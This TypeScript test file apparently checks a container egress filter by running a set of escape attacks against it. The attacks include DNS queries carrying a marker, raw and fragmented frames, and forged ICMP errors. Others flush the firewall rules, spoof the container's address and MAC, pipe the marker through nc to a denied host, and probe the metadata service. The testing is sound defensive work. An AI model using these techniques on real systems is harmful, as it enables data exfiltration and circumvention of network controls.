// The attacks of a siege. Each sends something that bears the mark, or to an address that is not allowed; without a policy it gets out.
import { dig } from "../support/client/dig.ts";
import { askAtPorts, resolverPorts } from "../support/client/resolver-ports.ts";
import { type Container, runContainer } from "../support/engine/container.ts";
import { frame, icmpBody, udpBody } from "../support/packets/frames.ts";
import { MARK, framesOutside } from "../support/packets/hostile-frames.ts";
import { stdoutOf } from "../support/program/command.ts";
import { connectTo } from "../support/rig/internet.ts";
import { waitFor } from "../support/rig/wait.ts";
import { ALLOWED, type Attacker, DENIED, METADATA, NAME_SERVER, type Siege } from "./siege.ts";

export interface Attack {
  readonly about: string;
  readonly act: (attacker: Attacker) => Promise<void>;
  // Whether it gets to the machine itself, which no packet outside shows: what the attacker sees then.
  readonly reaches?: (attacker: Attacker) => Promise<boolean>;
}

const DOCKER = "127.0.0.11";
const NO_MAC = "00:00:00:00:00:00";
const AT_ONCE = ["+time=2", "+tries=1"];
// As in a container with a user namespace of its own: others with NET_ADMIN are not held at all.
const ADMIN = ["--bounding-set=-all,+net_admin", "--no-new-privs"];
let asked = 0;

// A new one each time, so that no cache knows it.
function secret(): string {
  return `${MARK}-${(asked += 1)}.ok.test`;
}

async function askAt(container: Container, server: string, ...options: string[]): Promise<void> {
  for (const protocol of ["+notcp", "+tcp"])
    await dig(container, `@${server}`, ...AT_ONCE, ...options, protocol, secret());
}

function query(name: string): string {
  const labels = name.split(".").map((label) => String.fromCharCode(label.length) + label);
  return `\u0011\u0011\u0001\0\0\u0001\0\0\0\0\0\0${labels.join("")}\0\0\u0001\0\u0001`;
}

async function byRawLoopback({ container, sendBy }: Attacker): Promise<void> {
  // The kernel drops such frames unless it is told otherwise, which root in a container often can.
  for (const key of ["lo.route_localnet", "all.accept_local", "all.route_localnet"])
    await container.enter("sysctl", ["-qw", `net.ipv4.conf.${key}=1`]);
  const { udp } = await resolverPorts(container);
  const body = (port: number): Buffer => udpBody("127.0.0.1", DOCKER, port, query(secret()));
  for (const port of [...udp, 53])
    sendBy(
      "lo",
      frame({ fromMac: NO_MAC, toMac: NO_MAC, from: "127.0.0.1", to: DOCKER, protocol: 17, body: body(port) }),
    );
}

// What one fragment has, the other has not: the port is in the first, the mark in the second.
function inFragments({ frames: { sender, bridgeMac, to } }: Attacker): Buffer[] {
  const whole = udpBody(sender.address, to, 4433, `${"x".repeat(64)}${MARK}`);
  const parts = { fromMac: sender.mac, toMac: bridgeMac, from: sender.address, to, protocol: 17 };
  return [
    frame({ ...parts, body: whole.subarray(0, 64), fragment: 0x2000 }),
    frame({ ...parts, body: whole.subarray(64), fragment: 64 / 8 }),
  ];
}

const OWN_PORT = 40_123;
const HOLD = `
const { connect } = require("node:net");
connect({ host: "${ALLOWED.address}", port: 443, localPort: ${OWN_PORT} }).on("data", () => console.log("open"));
process.stdin.on("end", () => process.exit()).resume();`;

// Says to somebody else that a packet of an open connection has failed, with the mark behind it.
async function errorAboutConnection({ container, frames, sendBy }: Attacker): Promise<void> {
  const { sender, bridgeMac, to } = frames;
  await dig(container, ALLOWED.name);
  const link = { fromMac: sender.mac, toMac: bridgeMac };
  const answer = { ...link, from: ALLOWED.address, to: sender.address, protocol: 6 };
  const ports = Buffer.alloc(4);
  ports.writeUInt16BE(443);
  ports.writeUInt16BE(OWN_PORT, 2);
  const inner = frame({ ...answer, body: Buffer.concat([ports, Buffer.from(`....${MARK}`)]) }).subarray(14);
  const body = icmpBody(3, inner);
  let isOpen = false;
  let end: () => void = () => undefined;
  const until = new Promise<void>((resolve) => (end = resolve));
  const holder = container.enter(process.execPath, ["-e", HOLD], { until, onOutput: () => (isOpen = true) });
  await waitFor("the connection", () => (isOpen ? true : undefined));
  sendBy("eth0", frame({ ...link, from: sender.address, to, protocol: 1, body }));
  end();
  await holder;
}

async function withResolvConf(container: Container, server: string, work: () => Promise<void>): Promise<void> {
  const before = await container.readFile("/etc/resolv.conf");
  const write = async (text: string): Promise<void> => {
    stdoutOf(await container.exec("sh", ["-c", "cat >/etc/resolv.conf"], { input: text }), "resolv.conf");
  };
  await write(`nameserver ${server}\noptions timeout:1 attempts:1\n`);
  try {
    await work();
  } finally {
    await write(before);
  }
}

async function administer(container: Container, command: string, ...args: string[]): Promise<void> {
  await container.enter("setpriv", [...ADMIN, command, ...args]);
}

async function connectAll(container: Container, addresses: readonly string[], ports: readonly number[]): Promise<void> {
  for (const address of addresses) for (const port of ports) await connectTo(container, address, port);
}

async function withSidecar(
  { engine }: Siege,
  other: Container,
  work: (sidecar: Container) => Promise<void>,
): Promise<void> {
  const sidecar = await runContainer(engine, { name: "sidecar", args: ["--network", `container:${other.name}`] });
  try {
    await work(sidecar);
  } finally {
    await sidecar.remove();
  }
}

const [OWN_ADDRESS, OWN_MAC] = ["10.77.0.222", "02:00:00:00:00:22"];

// As a program of the container does it that may change its own network: it has another address and another MAC.
async function inDisguise({ container, frames: { sender } }: Attacker, work: () => Promise<void>): Promise<void> {
  const ip = async (...args: string[]): Promise<void> => await administer(container, "ip", ...args);
  await ip("address", "add", `${OWN_ADDRESS}/24`, "dev", "eth0");
  await ip("link", "add", "disguise", "link", "eth0", "address", OWN_MAC, "type", "macvlan", "mode", "bridge");
  await ip("link", "set", "disguise", "up");
  await ip("route", "replace", `${DENIED.address}/32`, "via", "10.77.0.1", "dev", "eth0", "src", OWN_ADDRESS);
  try {
    await work();
  } finally {
    await ip("route", "delete", `${DENIED.address}/32`);
    await ip("link", "delete", "disguise");
    await ip("address", "delete", `${OWN_ADDRESS}/24`, "dev", "eth0");
    await ip("neighbour", "flush", "dev", "eth0");
    await ip("link", "set", "eth0", "address", sender.mac);
  }
}

export const NAME_ATTACKS: readonly Attack[] = [
  {
    about: "a name is asked at 127.0.0.11, by UDP and TCP",
    act: async ({ container }) => await askAt(container, DOCKER),
  },
  {
    about: "a name is asked at the ports of Docker's resolver",
    act: async ({ container }) => await askAtPorts(container, secret),
  },
  { about: "a raw frame on lo asks Docker's resolver", act: byRawLoopback },
  {
    about: "a name is asked at another server",
    act: async ({ container }) => await askAt(container, NAME_SERVER),
  },
  {
    about: "resolv.conf names another server",
    act: async ({ container }) =>
      await withResolvConf(container, NAME_SERVER, async () => void (await container.exec("nslookup", [secret()]))),
  },
  {
    about: "a name is asked at the listener",
    act: async ({ container }) => await askAt(container, "169.254.53.53"),
  },
  {
    about: "a container that shares its network asks",
    act: async ({ container, siege }) =>
      await withSidecar(siege, container, async (sidecar) => {
        stdoutOf(
          await sidecar.exec("sh", ["-c", `nslookup ${secret()}; nslookup ${secret()} ${NAME_SERVER}; true`]),
          "sh",
        );
        await askAt(sidecar, DOCKER);
        await askAtPorts(sidecar, secret);
      }),
  },
  {
    about: "the rules of its namespace are flushed before it asks",
    act: async ({ container, siege }) => {
      await administer(container, "nft", "flush", "ruleset");
      for (const command of ["iptables", "iptables-legacy"])
        for (const table of ["nat", "filter", "raw"]) await administer(container, command, "-t", table, "-F");
      await askAt(container, DOCKER);
      await askAtPorts(container, secret);
      // Docker's own rules are gone for good, those of dns11 come back.
      await siege.instance.waitFor(container.name, "attached");
    },
  },
  {
    about: "its own rules lead its queries elsewhere",
    act: async ({ container }) => {
      const rules = `table ip own { chain out { type nat hook output priority -300; ip daddr ${DOCKER} udp dport 53 dnat to ${NAME_SERVER}; ip daddr ${DOCKER} tcp dport 53 dnat to ${NAME_SERVER}; }
        chain leave { type nat hook postrouting priority 0; ip daddr ${NAME_SERVER} masquerade; }; }`;
      await container.enter("setpriv", [...ADMIN, "nft", "-f", "-"], { input: rules });
      try {
        await askAt(container, DOCKER);
      } finally {
        await administer(container, "nft", "delete", "table", "ip", "own");
      }
    },
  },
];

export const ADDRESS_ATTACKS: readonly Attack[] = [
  {
    about: "a connection to an address that was never answered, also as a mapped one and by DNS over TLS and HTTPS",
    act: async ({ container }) =>
      await connectAll(container, [DENIED.address, `::ffff:${DENIED.address}`], [443, 853, 22]),
  },
  {
    about: "a connection over IPv6",
    act: async ({ container }) => await connectAll(container, [DENIED.address6], [443, 853]),
  },
  {
    about: "a container that shares its network connects",
    act: async ({ container, siege }) =>
      await withSidecar(siege, container, async (sidecar) => {
        await sidecar.exec("sh", ["-c", `echo ${MARK} | timeout 3 nc ${DENIED.address} 443`]);
      }),
  },
  {
    about: "its own address, MAC and interface are others",
    act: async (attacker) =>
      await inDisguise(attacker, async () => void (await connectTo(attacker.container, DENIED.address, DENIED.port))),
  },
  { about: "UDP in two fragments", act: async (attacker) => attacker.sendBy("eth0", ...inFragments(attacker)) },
  {
    about: "an error about a connection that is open, to somebody else",
    act: errorAboutConnection,
  },
];

// Frames of the whole set, one attack each.
export function frameAttacks(): Attack[] {
  const end = { mac: NO_MAC, address: "10.77.0.2", address6: "fd77::2", linkLocal: "fe80::2" };
  const parts = { sender: end, neighbour: end, bridgeMac: NO_MAC, to: DENIED.address, to6: DENIED.address6 };
  return framesOutside(parts).map(({ about }, index) => ({
    about: `a raw frame on eth0: ${about}`,
    act: async ({ frames, sendBy }) => {
      const found = framesOutside(frames)[index];
      if (found === undefined) throw new Error(about);
      sendBy("eth0", found.bytes);
    },
  }));
}

export const MACHINE_ATTACKS: readonly Attack[] = [
  {
    about: "the metadata service",
    act: async () => undefined,
    reaches: async ({ container }) => (await connectTo(container, METADATA, 80)) === "open",
  },
  {
    about: "a server of the machine at the gateway, by IPv4, IPv6 and link-local address",
    act: async () => undefined,
    reaches: async ({ container }) => {
      const shown = stdoutOf(await container.enter("ip", ["-6", "neighbour", "show", "dev", "eth0"]), "ip");
      const linkLocal = /^(fe80\S+).*router/m.exec(shown)?.[1];
      const addresses = ["10.77.0.1", "fd77::1", ...(linkLocal === undefined ? [] : [`${linkLocal}%eth0`])];
      const seen: string[] = [];
      for (const address of addresses) seen.push(await connectTo(container, address, 80));
      return seen.includes("open");
    },
  },
];
